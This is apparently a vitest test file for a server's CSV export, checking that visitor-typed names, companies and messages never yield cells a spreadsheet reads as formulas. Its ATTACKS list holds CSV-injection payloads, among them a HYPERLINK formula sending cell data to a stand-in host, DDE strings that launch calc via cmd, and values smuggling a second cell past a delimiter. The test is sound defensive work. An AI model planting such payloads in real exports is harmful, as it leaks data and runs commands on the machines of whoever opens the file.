import { describe, expect, it } from 'vitest';
import { csvText } from '../../../server/reports/csv.ts';

/*
 * The owner's CSV files as spreadsheets read them (server/reports/csv.ts, README.md "Abuse
 * paths and the limits that stop them"): whatever a visitor typed, no cell a spreadsheet makes
 * of the file starts with = + - @, a tab or a carriage return, whether it splits the file on
 * commas (the delimiter written) or on semicolons (a spreadsheet whose list separator is `;`,
 * as Excel's is where a comma is the decimal sign). Such a reader takes a quote as opening a
 * quoted cell only at the start of a cell, as Excel and LibreOffice do, and ends a row at a
 * line break outside a quoted cell.
 */

/** The cells a spreadsheet splitting on `delimiter` reads from `text`, row by row. */
function spreadsheetCells(text: string, delimiter: ',' | ';'): string[][] {
  const rows: string[][] = [];
  let row: string[] = [];
  let cell = '';
  let quoted = false;
  let atStart = true;
  for (let at = 0; at < text.length; at += 1) {
    const character = text[at]!;
    if (quoted) {
      if (character === '"' && text[at + 1] === '"') {
        cell += '"';
        at += 1;
      } else if (character === '"') quoted = false;
      else cell += character;
      continue;
    }
    if (character === '"' && atStart) {
      quoted = true;
      atStart = false;
    } else if (character === delimiter) {
      row.push(cell);
      cell = '';
      atStart = true;
    } else if (character === '\r' || character === '\n') {
      if (character === '\r' && text[at + 1] === '\n') at += 1;
      row.push(cell);
      rows.push(row);
      row = [];
      cell = '';
      atStart = true;
    } else {
      cell += character;
      atStart = false;
    }
  }
  if (cell !== '' || row.length > 0) rows.push([...row, cell]);
  return rows;
}

const FORMULA_START = /^[=+\-@\t\r]/;

/** What visitors type into a name, company or message to make a cell a formula. */
const ATTACKS = [
  '=HYPERLINK("https://evil.example/?d="&A3,"x")',
  'Acme;=1+2',
  'Acme; =1+2',
  'Acme,=1+2',
  'x";=1+2',
  'Dear sir\n=HYPERLINK("https://evil.example/","x")',
  'Dear sir\r\n@SUM(1+1)*cmd|\' /C calc\'!A0',
  'Call me;+27 82 555 0123',
  '-2+3',
  '\t=cmd|calc',
];

describe('formula-safe CSV', () => {
  for (const delimiter of [',', ';'] as const) {
    it(`leaves no cell starting like a formula for a spreadsheet splitting on "${delimiter}"`, () => {
      // Each attack in a middle column, as a name or company is, and in the first.
      const text = csvText(ATTACKS.flatMap((attack) => [['12', 'Send us a message', attack, 'new'], [attack, 'tail']]));
      const cells = spreadsheetCells(text, delimiter).flat();
      expect(cells.filter((cell) => FORMULA_START.test(cell))).toEqual([]);
    });
  }

  it('reads back every cell whole on a comma-splitting spreadsheet, a guard apostrophe aside', () => {
    const values = [...ATTACKS, 'plain', 'Sipho, Jr.', 'say "hi"', 'two\nlines', 'a;b', ''];
    const [row] = spreadsheetCells(csvText([values]), ',');
    expect(row).toHaveLength(values.length);
    for (const [index, value] of values.entries()) {
      // The guard adds an apostrophe where a cell could start; nothing else changes.
      expect(row![index]!.replace(/(^|[,;\t\r\n])'/g, '$1')).toBe(value);
    }
  });

  it('quotes every cell holding a delimiter, a quote or a line break', () => {
    expect(csvText([['Acme;=1+2']])).toBe(`"Acme;'=1+2"\r\n`);
    expect(csvText([['2;4', 'a,b', 'say "hi"', 'two\nlines', 'plain']])).toBe('"2;4","a,b","say ""hi""","two\nlines",plain\r\n');
  });
});
